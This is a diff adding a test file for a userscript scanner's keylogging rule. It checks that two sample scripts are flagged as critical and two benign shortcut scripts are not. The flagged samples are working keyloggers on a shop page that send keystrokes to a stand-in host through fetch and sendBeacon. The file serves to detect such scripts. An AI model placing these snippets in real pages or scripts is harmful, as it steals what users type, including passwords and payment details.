@@ -1,0 +1,47 @@
+import { describe, expect, test } from "vitest";
+import { findIn, userscript } from "../testing/find-in.ts";
+import { keylogging } from "./keylogging.ts";
+
+describe("keylogging", () => {
+	test.each([
+		[
+			"every key, at once",
+			["critical 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`document.addEventListener("keydown",e=>fetch("https://c.stranger.test/?k="+e.key))`,
+			),
+		],
+		[
+			"keys collected and sent in parcels",
+			["critical 7"],
+			userscript(
+				["match https://shop.example/*"],
+				`let log="";
+window.onkeyup=e=>{log+=e.key};
+setInterval(()=>{navigator.sendBeacon("https://c.stranger.test/",log);log=""},5000)`,
+			),
+		],
+	])("finds %s", (_title, expected, code) => {
+		expect(findIn(keylogging, code)).toEqual(expected);
+	});
+
+	test.each([
+		[
+			"a shortcut",
+			userscript(
+				["match https://shop.example/*"],
+				`document.addEventListener("keydown",e=>{if(e.key==="s"&&e.ctrlKey)document.querySelector("#save").click()})`,
+			),
+		],
+		[
+			"a shortcut that asks a server",
+			userscript(
+				["match https://shop.example/*", "grant GM_xmlhttpRequest", "connect api.helper.example"],
+				`document.addEventListener("keydown",e=>{if(e.key==="t")GM_xmlhttpRequest({url:"https://api.helper.example/time"})})`,
+			),
+		],
+	])("leaves alone %s", (_title, code) => {
+		expect(findIn(keylogging, code)).toEqual([]);
+	});
+});
